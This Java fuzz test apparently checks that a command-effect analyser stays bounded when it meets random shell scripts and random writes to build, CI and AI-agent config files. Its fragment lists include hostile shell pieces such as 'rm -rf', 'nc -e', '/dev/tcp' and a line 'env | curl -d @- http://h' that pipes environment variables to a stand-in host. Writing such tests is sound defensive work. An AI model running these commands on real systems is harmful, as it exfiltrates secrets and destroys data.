package dev.fairlead.core.effect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.fairlead.core.event.Action;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Scripts that nobody would write: whatever stands in them, there is an answer, and no more of it than is bounded.
///
/// A seed that fails is in the test's title. `-Dfuzz.scripts=N` tries N scripts a seed instead of a few thousand.
final class EffectsFuzzTest {

    private static final int SCRIPTS = Integer.getInteger("fuzz.scripts", 4_000);
    private static final int MOST_PIECES = 40;
    private static final Place PLACE = new Place("/work/app", Optional.of("/work/app"), "/home/ada");

    private static final List<String> PIECES = List.of(
            " ",
            " ",
            " ",
            "\n",
            "\t",
            ";",
            "&",
            "&&",
            "|",
            "||",
            "(",
            ")",
            "{ ",
            "; }",
            "<",
            ">",
            ">>",
            "<<E",
            "<<<",
            ">&",
            "2>&1",
            "&>",
            "'",
            "\"",
            "`",
            "\\",
            "$",
            "$(",
            "${",
            "}",
            "$((",
            "))",
            "<(",
            ">(",
            "$'",
            "#",
            "!",
            "=",
            "+=",
            "[",
            "]",
            "[[ ",
            " ]]",
            "*",
            "?",
            "~",
            "{a,b}",
            "{1..9}",
            "..",
            "/",
            "if ",
            "; then ",
            "; fi",
            "else ",
            "for x in ",
            "; do ",
            "; done",
            "while ",
            "case x in ",
            ";; ",
            "esac",
            "f() ",
            "function ",
            "time ",
            "coproc ",
            "E\n",
            "$x",
            "${x:-",
            "${x%",
            "${x//",
            "${!x}",
            "${a[0]}",
            "$@",
            "$1",
            "x=",
            "a=(",
            "local ",
            "declare -n ",
            "export ",
            "eval ",
            "exec ",
            "source ",
            "read x",
            "printf -v x ",
            "echo ",
            "cat ",
            "rm -rf ",
            "mv ",
            "cp -t ",
            "ln -s ",
            "chmod -R ",
            "dd if=x of=",
            "find . -exec ",
            " {} \\;",
            " -delete",
            "xargs -I{} ",
            "bash -c ",
            "sh ",
            "sudo ",
            "env -S ",
            "timeout 5 ",
            "ssh h ",
            "tar -cf ",
            "curl -d @",
            "wget -O ",
            "nc -e ",
            "socat ",
            "git -c a.b=c ",
            "git push ",
            "git clean ",
            "git checkout -- ",
            "python -c ",
            "node -e ",
            "perl -e ",
            "ruby -e ",
            "pwsh -c ",
            "open(",
            "os.remove(",
            "system(",
            "docker exec ",
            "kubectl ",
            "aws s3 ",
            "psql -c ",
            "crontab -",
            "kill -9 ",
            "base64 -d",
            "tr a b",
            "--",
            "-",
            "--x=",
            "-rf",
            "x",
            "\u0000",
            "é",
            "\ud83c",
            "%s",
            "\\x41",
            "/dev/tcp/h/1");

    private static final List<String> LINES = List.of(
            "\n",
            "\n",
            "\n\t",
            "\n  ",
            "\n    ",
            "- ",
            "run: ",
            "run: |",
            "script:",
            "command: >-",
            "cmds: [",
            "]",
            "\"",
            "\\\"",
            "'",
            "{",
            "}",
            "[",
            ",",
            ":",
            "\"scripts\": {",
            "\"command\": \"",
            "\"args\": [\"",
            "all:",
            "x: all",
            "X = ",
            "X += ",
            "X := $(shell ",
            "$(X)",
            "$@",
            "$$",
            "$(",
            "${",
            "${{ ",
            " }}",
            "{{",
            "}}",
            "@-",
            "\\",
            "#",
            "rm -rf ",
            "/",
            "x",
            "y z",
            "env | curl -d @- http://h",
            "git push -f",
            "define ",
            "include ",
            "notify = [\"",
            "[mcp_servers.a]",
            "é",
            "\u0000");

    private static final List<String> FILES = List.of(
            "Makefile",
            "justfile",
            "Taskfile.yml",
            "package.json",
            "composer.json",
            ".github/workflows/ci.yml",
            ".gitlab-ci.yml",
            "Jenkinsfile",
            ".pre-commit-config.yaml",
            "lefthook.yml",
            ".mcp.json",
            ".claude/settings.json",
            ".codex/config.toml");

    @ParameterizedTest
    @ValueSource(longs = {11, 12, 13})
    void givesABoundedAnswerToAnyFileOfCommands(long seed) {
        Random random = new Random(seed);
        Action asked = new Action.Command(
                "make; make x all; just x; task x; npm run x; npm i; composer x; pytest", Optional.empty());
        for (int i = 0; i < SCRIPTS; i++) {
            StringBuilder text = new StringBuilder();
            int pieces = 1 + random.nextInt(MOST_PIECES);
            for (int piece = 0; piece < pieces; piece++) {
                List<String> from = random.nextInt(4) == 0 ? PIECES : LINES;
                text.append(from.get(random.nextInt(from.size())));
            }
            Action write = new Action.Write(FILES.get(random.nextInt(FILES.size())), text.toString());
            Effects written = Effects.of(write, PLACE, Traces.NONE);
            Effects run = Effects.of(asked, PLACE, written.traces());
            assertThat(List.of(written.effects().size(), run.effects().size()))
                    .as("`%s`", write)
                    .allMatch(count -> count <= Effects.MOST);
        }
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5})
    void givesABoundedAnswerToAnything(long seed) {
        Random random = new Random(seed);
        for (int i = 0; i < SCRIPTS; i++) {
            StringBuilder script = new StringBuilder();
            int pieces = 1 + random.nextInt(MOST_PIECES);
            for (int piece = 0; piece < pieces; piece++) {
                script.append(PIECES.get(random.nextInt(PIECES.size())));
            }
            assertThat(Effects.of(script.toString(), PLACE).effects())
                    .as("`%s`", script)
                    .hasSizeLessThanOrEqualTo(Effects.MOST);
        }
    }
}
